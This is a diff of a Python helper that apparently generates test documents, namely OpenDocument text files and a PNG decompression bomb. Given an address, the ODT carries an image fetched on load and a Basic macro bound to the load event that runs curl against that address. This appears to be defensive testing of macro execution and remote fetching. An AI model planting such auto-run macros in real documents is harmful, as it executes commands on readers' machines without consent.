@@ -81,55 +81,58 @@ def picture_bomb() -> bytes:
     return b"\x89PNG\r\n\x1a\n" + b"".join(parts)
 
 
+NAMES = " ".join(
+    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
+    for short, name in (
+        ("office", "office"), ("text", "text"), ("draw", "drawing"), ("svg", "svg-compatible"), ("script", "script"),
+        ("manifest", "manifest"),
+    )
+) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'  # fmt: skip
+LIBRARY = 'xmlns:library="http://openoffice.org/2000/library" library:name="Standard"'
+LISTENER = (
+    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
+    'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;'
+    'location=document"/></office:event-listeners></office:scripts>'
+)
+
+
 def odt(words: str, *, asks: str = "", locked: bool = False) -> bytes:
     """A text document (OpenDocument 1.2). `asks` is an address that a picture of it lies at, and that a macro opens."""
-    spaces = " ".join(
-        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
-        for short, name in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("svg", "svg-compatible"),
-                            ("script", "script"), ("manifest", "manifest"))
-    )  # fmt: skip
-    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'
-    frame = (
-        f'<draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image xlink:href="{asks}/picture.png" '
-        f'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
-        if asks
-        else ""
+    picture = (
+        '<draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char">'
+        f'<draw:image xlink:href="{asks}/picture.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
+        "</draw:frame>"
     )
-    listener = (
-        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
-        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"'
-        "/></office:event-listeners></office:scripts>"
-    )
-    content = (
-        f'<office:document-content {spaces} office:version="1.2">{listener if asks else ""}<office:body><office:text>'
-        f"<text:p>{words}</text:p><text:p>{frame}</text:p></office:text></office:body></office:document-content>"
-    )
-    library = '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false">'
-    macro = f'Sub Main\nShell("curl", 1, "{asks}/macro")\nx = FileLen("{asks}/macro")\nEnd Sub'
+    body = f"<text:p>{words}</text:p><text:p>{picture if asks else ''}</text:p>"
+    kind = "application/vnd.oasis.opendocument.text"
     lock = '<manifest:encryption-data manifest:checksum=""/>' if locked else ""
+    entry = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}">{}</manifest:file-entry>'
+    files = {
+        "mimetype": kind,
+        "content.xml": (
+            f'<office:document-content {NAMES} office:version="1.2">{LISTENER if asks else ""}<office:body>'
+            f"<office:text>{body}</office:text></office:body></office:document-content>"
+        ),
+    }
+    if asks:
+        macro = f'Sub Main\nShell("curl", 1, "{asks}/macro")\nx = FileLen("{asks}/macro")\nEnd Sub'
+        names = 'xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic"'
+        space, name = LIBRARY.split()
+        files |= {
+            "Basic/script-lc.xml": (
+                f'<library:libraries {space}><library:library {name} library:link="false"/></library:libraries>'
+            ),
+            "Basic/Standard/script-lb.xml": (
+                f'<library:library {LIBRARY}><library:element library:name="M"/></library:library>'
+            ),
+            "Basic/Standard/M.xml": f"<script:module {names}>{macro}</script:module>",
+        }
+    listed = "".join(entry.format(name, "text/xml", lock) for name in files if name != "mimetype")
+    files["META-INF/manifest.xml"] = (
+        f'<manifest:manifest {NAMES} manifest:version="1.2">{entry.format("/", kind, "")}{listed}</manifest:manifest>'
+    )
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w") as packed:
-        packed.writestr("mimetype", "application/vnd.oasis.opendocument.text")
-        packed.writestr("content.xml", content)
-        if asks:
-            packed.writestr(
-                "Basic/script-lc.xml",
-                library.replace(":library ", ":libraries ", 1).replace(
-                    ' library:name="Standard" library:readonly="false"', ""
-                )
-                + '<library:library library:name="Standard" library:link="false"/></library:libraries>',
-            )
-            packed.writestr(
-                "Basic/Standard/script-lb.xml", library + '<library:element library:name="M"/></library:library>'
-            )
-            packed.writestr(
-                "Basic/Standard/M.xml",
-                f'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">{macro}</script:module>',
-            )
-        packed.writestr(
-            "META-INF/manifest.xml",
-            f'<manifest:manifest {spaces}><manifest:file-entry manifest:full-path="/" '
-            'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
-            f'manifest:full-path="content.xml" manifest:media-type="text/xml">{lock}</manifest:file-entry></manifest:manifest>',
-        )
+        for name, text in files.items():
+            packed.writestr(name, text)
     return made.getvalue()
